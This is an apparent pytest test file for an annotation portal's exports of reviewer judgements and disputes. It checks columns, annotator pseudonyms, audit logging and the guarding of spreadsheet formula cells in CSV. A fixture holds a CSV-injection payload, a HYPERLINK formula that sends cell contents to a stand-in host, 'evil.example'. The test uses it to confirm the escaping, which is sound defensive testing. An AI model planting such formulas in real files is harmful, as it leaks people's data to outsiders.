"""Judgement exports: one row per judgement with pseudonyms (CSV, Parquet), the disputes beside them, and
SHROOM-style JSON per item; the same files through the API. Every column of every format is checked against what
was stored, text cells a spreadsheet would run are guarded in CSV only, and no e-mail address leaves unless an
organizer asks for identities."""

from __future__ import annotations

import csv
import io
import json
import math
import re
from datetime import timedelta
from pathlib import Path

import pandas as pd
import pytest
from django.utils import timezone

from annotation.models import Adjudication, Dispute, GuidelineVersion, QAItem, ReviewRevision
from annotation.services.imports import items_import
from annotation.services.judgement_exports import judgements_export
from portal.models import AuditEntry
from tests.reviews import done_review

ROOT = Path(__file__).resolve().parents[2]

pytestmark = pytest.mark.django_db

# Written out here rather than imported: a column dropped or moved in the product must fail these tests.
JUDGEMENT_COLUMNS = [
    "item_uid",
    "qa_type",
    "stage",
    "annotator",
    "verdict",
    "relevance",
    "comment",
    "created_at",
    "seconds",
    "guideline_version",
    "edited_at",
    "earlier_versions",
    "set_aside_at",
]
DISPUTE_COLUMNS = [
    "item_uid",
    "raised_by",
    "category",
    "text",
    "quote_text",
    "status",
    "resolver",
    "created_at",
    "resolved_at",
]
NUMBER_COLUMNS = {"relevance", "seconds"}
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"source")'


@pytest.fixture
def judged(make_user):
    """Three judged items and one left alone: on the first two reviews that disagree and an adjudication, on the
    second one review changed twice by its author and an upheld dispute, on the third a review set aside and the
    one that replaced it, and an open dispute. Comments, reasons and dispute texts start with = + - @."""
    items_import(paths=[ROOT / "fixtures" / "cliniqlink-sample" / "TF.json"])
    a, b, c, d = (make_user("reviewer") for _ in range(4))
    first, second, third = QAItem.objects.order_by("id")[:3]
    v1 = GuidelineVersion.objects.get(benchmark=first.benchmark, qa_type=first.qa_type, number=1)
    v2 = GuidelineVersion.objects.create(benchmark=first.benchmark, qa_type=first.qa_type, number=2, text="v2")
    now = timezone.now()

    r1 = done_review(first, a, "primary", "correct", 5, server_seconds=12.5)
    r1.comment, r1.guideline = FORMULA, v1
    r1.save()
    r2 = done_review(first, b, "secondary", "incorrect", 4, server_seconds=30.25)
    r2.comment, r2.guideline = "+1 the source contradicts it", v2
    r2.save()
    adj = Adjudication.objects.create(
        item=first, adjudicator=c, verdict="incorrect", relevance=3, reason="-the source says otherwise"
    )

    r3 = done_review(second, a, "primary", "correct", 4, server_seconds=8.75)
    ReviewRevision.objects.create(
        review=r3, version=1, verdict="incorrect", relevance=2, comment="first thought", stored_at=r3.created_at
    )
    ReviewRevision.objects.create(review=r3, version=2, verdict="correct", relevance=3, comment="", stored_at=now)
    r3.comment, r3.edited_at = "@SUM(A1:A9) checked twice", now + timedelta(seconds=1)
    r3.save()
    upheld = Dispute.objects.create(
        item=second,
        raised_by=b,
        category="ambiguous",
        text="=two answers fit",
        quote_text="-0.5 mg or 1 mg",
        status="upheld",
        resolver=d,
        resolved_at=now + timedelta(minutes=5),
    )

    r4 = done_review(third, b, "primary", "incorrect", 2, server_seconds=20.5)
    r4.superseded_at = now + timedelta(minutes=1)
    r4.save()
    r5 = done_review(third, a, "primary", "incorrect", 1, server_seconds=15.25)
    open_dispute = Dispute.objects.create(item=third, raised_by=a, category="other", text="plain words")

    for row in (r1, r2, adj, r3, r4, r5, upheld, open_dispute):
        row.refresh_from_db()  # the stored values, as the export reads them
    return {
        "items": (first, second, third),
        "users": (a, b, c, d),
        "judgements": [r1, r2, adj, r3, r4, r5],
        "disputes": [upheld, open_dispute],
        "guidelines": {r1.pk: "1", r2.pk: "2"},
    }


def _iso(moment) -> str | None:
    return moment.isoformat() if moment else None


def _expected_judgements(judged, *, identities: bool) -> list[dict]:
    """What the rows must hold, built from the stored objects (not from the export's own row builder)."""
    who = (lambda u: u.email) if identities else (lambda u: u.pseudonym)
    rows = []
    for row in judged["judgements"]:
        if isinstance(row, Adjudication):
            rows.append(
                {
                    "item_uid": row.item.uid,
                    "qa_type": row.item.qa_type,
                    "stage": "adjudication",
                    "annotator": who(row.adjudicator),
                    "verdict": row.verdict,
                    "relevance": row.relevance,
                    "comment": row.reason,
                    "created_at": row.created_at.isoformat(),
                    "seconds": None,
                    "guideline_version": None,
                    "edited_at": None,
                    "earlier_versions": "",
                    "set_aside_at": None,
                }
            )
            continue
        earlier = " | ".join(
            f"version {r.version}: {r.verdict}, relevance {r.relevance}"
            + (f", comment: {r.comment}" if r.comment else "")
            + f", replaced {r.replaced_at.isoformat()}"
            for r in ReviewRevision.objects.filter(review=row).order_by("version")
        )
        rows.append(
            {
                "item_uid": row.item.uid,
                "qa_type": row.item.qa_type,
                "stage": row.stage,
                "annotator": who(row.reviewer),
                "verdict": row.verdict,
                "relevance": row.relevance,
                "comment": row.comment,
                "created_at": row.created_at.isoformat(),
                "seconds": row.server_seconds,
                "guideline_version": judged["guidelines"].get(row.pk),
                "edited_at": _iso(row.edited_at),
                "earlier_versions": earlier,
                "set_aside_at": _iso(row.superseded_at),
            }
        )
    return rows


def _expected_disputes(judged, *, identities: bool) -> list[dict]:
    who = (lambda u: u.email if u else "") if identities else (lambda u: u.pseudonym if u else "")
    return [
        {
            "item_uid": d.item.uid,
            "raised_by": who(d.raised_by),
            "category": d.category,
            "text": d.text,
            "quote_text": d.quote_text,
            "status": d.status,
            "resolver": who(d.resolver),
            "created_at": d.created_at.isoformat(),
            "resolved_at": _iso(d.resolved_at),
        }
        for d in judged["disputes"]
    ]


def _as_csv_cells(rows: list[dict]) -> list[dict]:
    """The rows as a spreadsheet-safe CSV must show them: empty for nothing, a ' before text starting a formula."""

    def cell(column, value):
        if value is None:
            return ""
        if column in NUMBER_COLUMNS:
            return value  # compared as a number: a CSV writer may print 5 or 5.0
        return "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value

    return [{column: cell(column, value) for column, value in row.items()} for row in rows]


def _read_csv(data: bytes, columns: list[str]) -> list[dict]:
    text = data.decode("utf-8")
    assert not text.startswith("\ufeff") and "\r\n" not in text
    reader = csv.DictReader(io.StringIO(text))
    assert reader.fieldnames == columns
    rows = list(reader)
    for row in rows:
        for column in NUMBER_COLUMNS & set(row):
            row[column] = float(row[column]) if row[column] else ""
    return rows


def _read_parquet(data: bytes, columns: list[str]) -> list[dict]:
    frame = pd.read_parquet(io.BytesIO(data))
    assert list(frame.columns) == columns
    return [
        {k: None if isinstance(v, float) and math.isnan(v) else v for k, v in row.items()}
        for row in frame.to_dict(orient="records")
    ]


def _expected_shroom(judged, *, identities: bool) -> list[dict]:
    """Per judged item, in item order: each reviewer's label (set-aside reviews included, the adjudication beside
    them, not a vote), the strict majority or null, the share saying incorrect."""
    a, b, _, _ = judged["users"]
    key = (lambda u: u.email) if identities else (lambda u: u.pseudonym)
    first, second, third = judged["items"]
    return [
        {
            "item_uid": first.uid,
            "qa_type": first.qa_type,
            "labels": {key(a): "correct", key(b): "incorrect"},
            "adjudication": "incorrect",
            "majority_label": None,  # one against one
            "incorrect_share": 0.5,
            "n_annotators": 2,
        },
        {
            "item_uid": second.uid,
            "qa_type": second.qa_type,
            "labels": {key(a): "correct"},  # the newest version of the changed review
            "adjudication": None,
            "majority_label": "correct",
            "incorrect_share": 0.0,
            "n_annotators": 1,
        },
        {
            "item_uid": third.uid,
            "qa_type": third.qa_type,
            "labels": {key(b): "incorrect", key(a): "incorrect"},
            "adjudication": None,
            "majority_label": "incorrect",
            "incorrect_share": 1.0,
            "n_annotators": 2,
        },
    ]


def _strings(rows: list[dict]) -> set[str]:
    found = set()
    for row in rows:
        for value in row.values():
            if isinstance(value, dict):
                found |= set(value) | {v for v in value.values() if isinstance(v, str)}
            elif isinstance(value, str):
                found.add(value)
    return found


def _no_address(judged, cells: set[str]) -> None:
    emails = {u.email for u in judged["users"]}
    assert not {cell for cell in cells if any(email in cell for email in emails)}


def test_csv_holds_every_column_of_every_judgement_guarded_for_spreadsheets(judged, tmp_path):
    judgements, disputes = judgements_export(fmt="csv", out_dir=tmp_path)
    got = _read_csv(judgements.read_bytes(), JUDGEMENT_COLUMNS)
    assert got == _as_csv_cells(_expected_judgements(judged, identities=False))
    # spelled out once, so that the guard itself is pinned and not only recomputed
    assert [row["comment"] for row in got][:4] == [
        "'" + FORMULA,
        "'+1 the source contradicts it",
        "'-the source says otherwise",
        "'@SUM(A1:A9) checked twice",
    ]
    assert [row["guideline_version"] for row in got] == ["1", "2", "", "", "", ""]  # whole numbers, not 1.0
    assert [bool(row["set_aside_at"]) for row in got] == [False, False, False, False, True, False]
    assert re.fullmatch(
        r"version 1: incorrect, relevance 2, comment: first thought, replaced \S+ \| "
        r"version 2: correct, relevance 3, replaced \S+",
        got[3]["earlier_versions"],
    )
    assert _read_csv(disputes.read_bytes(), DISPUTE_COLUMNS) == _as_csv_cells(
        _expected_disputes(judged, identities=False)
    )


def test_annotators_are_stable_pseudonyms_never_addresses(judged, tmp_path):
    a, b, c, d = judged["users"]
    pseudonyms = [u.pseudonym for u in (a, b, c, d)]
    assert len(set(pseudonyms)) == 4 and all(re.fullmatch(r"annotator-[0-9a-f]{8}", p) for p in pseudonyms)
    judgements, disputes = judgements_export(fmt="csv", out_dir=tmp_path / "csv")
    table = _read_csv(judgements.read_bytes(), JUDGEMENT_COLUMNS)
    assert [row["annotator"] for row in table] == [a.pseudonym, b.pseudonym, c.pseudonym] + [
        a.pseudonym,
        b.pseudonym,
        a.pseudonym,
    ]
    for path in (judgements, disputes):
        text = path.read_text(encoding="utf-8")
        assert "@test.portal" not in text and not any(u.email in text for u in judged["users"])
    parquet = judgements_export(fmt="parquet", out_dir=tmp_path / "parquet")
    _no_address(judged, _strings(_read_parquet(parquet[0].read_bytes(), JUDGEMENT_COLUMNS)))
    _no_address(judged, _strings(_read_parquet(parquet[1].read_bytes(), DISPUTE_COLUMNS)))
    shroom = judgements_export(fmt="shroom", out_dir=tmp_path / "shroom")[0].read_text(encoding="utf-8")
    assert not any(u.email in shroom for u in judged["users"])
    # the same person keeps the same pseudonym from one export to the next
    again = _read_csv(judgements_export(fmt="csv", out_dir=tmp_path / "again")[0].read_bytes(), JUDGEMENT_COLUMNS)
    assert [row["annotator"] for row in again] == [row["annotator"] for row in table]


def test_parquet_holds_the_stored_values_unguarded_with_numbers_as_numbers(judged, tmp_path):
    judgements, disputes = judgements_export(fmt="parquet", out_dir=tmp_path)
    got = _read_parquet(judgements.read_bytes(), JUDGEMENT_COLUMNS)
    assert got == _expected_judgements(judged, identities=False)
    assert got[0]["comment"] == FORMULA  # not a spreadsheet format: the text as written
    frame = pd.read_parquet(judgements)
    assert pd.api.types.is_integer_dtype(frame["relevance"]) and pd.api.types.is_float_dtype(frame["seconds"])
    assert _read_parquet(disputes.read_bytes(), DISPUTE_COLUMNS) == _expected_disputes(judged, identities=False)


def test_identities_only_when_asked(judged, tmp_path):
    for fmt, read in (("csv", _read_csv), ("parquet", _read_parquet)):
        judgements, disputes = judgements_export(fmt=fmt, out_dir=tmp_path / fmt, identities=True)
        expected = _expected_judgements(judged, identities=True)
        expected_disputes = _expected_disputes(judged, identities=True)
        if fmt == "csv":
            expected, expected_disputes = _as_csv_cells(expected), _as_csv_cells(expected_disputes)
        assert read(judgements.read_bytes(), JUDGEMENT_COLUMNS) == expected, fmt
        assert read(disputes.read_bytes(), DISPUTE_COLUMNS) == expected_disputes, fmt
    shroom = judgements_export(fmt="shroom", out_dir=tmp_path / "shroom", identities=True)[0]
    assert json.loads(shroom.read_text(encoding="utf-8")) == _expected_shroom(judged, identities=True)


def test_every_judgement_export_is_audited_saying_whether_it_carried_identities(judged, tmp_path, make_user):
    organizer = make_user("organizer")
    judgements_export(fmt="csv", out_dir=tmp_path, identities=True, user=organizer)
    judgements_export(fmt="shroom", out_dir=tmp_path)
    entries = AuditEntry.objects.filter(action="judgements_exported").order_by("id")
    assert [(e.actor, e.after) for e in entries] == [
        (organizer, {"format": "csv", "identities": True}),
        (None, {"format": "shroom", "identities": False}),
    ]


def test_shroom_json_gives_labels_majority_and_incorrect_share(judged, tmp_path):
    paths = judgements_export(fmt="shroom", out_dir=tmp_path)
    assert [p.name for p in paths] == ["judgements.shroom.json"]  # no disputes in this format
    assert json.loads(paths[0].read_text(encoding="utf-8")) == _expected_shroom(judged, identities=False)


# --- the same files through the API ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("table", "fmt", "content_type", "extension"),
    [
        ("judgements", "csv", "text/csv", "csv"),
        ("judgements", "parquet", "application/vnd.apache.parquet", "parquet"),
        ("judgements", "shroom", "application/json", "shroom.json"),
        ("disputes", "csv", "text/csv", "csv"),
        ("disputes", "parquet", "application/vnd.apache.parquet", "parquet"),
    ],
)
@pytest.mark.parametrize("identities", [False, True])
def test_api_gives_each_table_in_each_format_with_the_stored_values(
    judged, organizer_client, organizer, table, fmt, content_type, extension, identities
):
    query = f"/api/judgements/?table={table}&fmt={fmt}" + ("&identities=true" if identities else "")
    response = organizer_client.get(query)
    assert response.status_code == 200 and response["Content-Type"] == content_type
    who = "with-identities" if identities else "pseudonymised"
    assert response["Content-Disposition"] == (
        f'attachment; filename="{table}-{who}-{timezone.localdate().isoformat()}.{extension}"'
    )
    if fmt == "shroom":
        assert json.loads(response.content) == _expected_shroom(judged, identities=identities)
    else:
        columns = JUDGEMENT_COLUMNS if table == "judgements" else DISPUTE_COLUMNS
        builder = _expected_judgements if table == "judgements" else _expected_disputes
        expected = builder(judged, identities=identities)
        if fmt == "csv":
            expected = _as_csv_cells(expected)
        got = (_read_csv if fmt == "csv" else _read_parquet)(response.content, columns)
        assert got == expected
        if not identities:
            _no_address(judged, _strings(got))
    entry = AuditEntry.objects.get(action=f"{table}_exported", actor=organizer)
    assert entry.after == {"format": fmt, "identities": identities}


def test_api_defaults_to_the_pseudonymised_judgements_csv_the_command_writes(judged, organizer_client, tmp_path):
    response = organizer_client.get("/api/judgements/")
    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
    assert response.content == judgements_export(fmt="csv", out_dir=tmp_path)[0].read_bytes()
    for not_asked in ("0", "false", "yes"):  # only 1 and true ask for identities
        plain = organizer_client.get(f"/api/judgements/?identities={not_asked}")
        assert plain.content == response.content and "pseudonymised" in plain["Content-Disposition"]
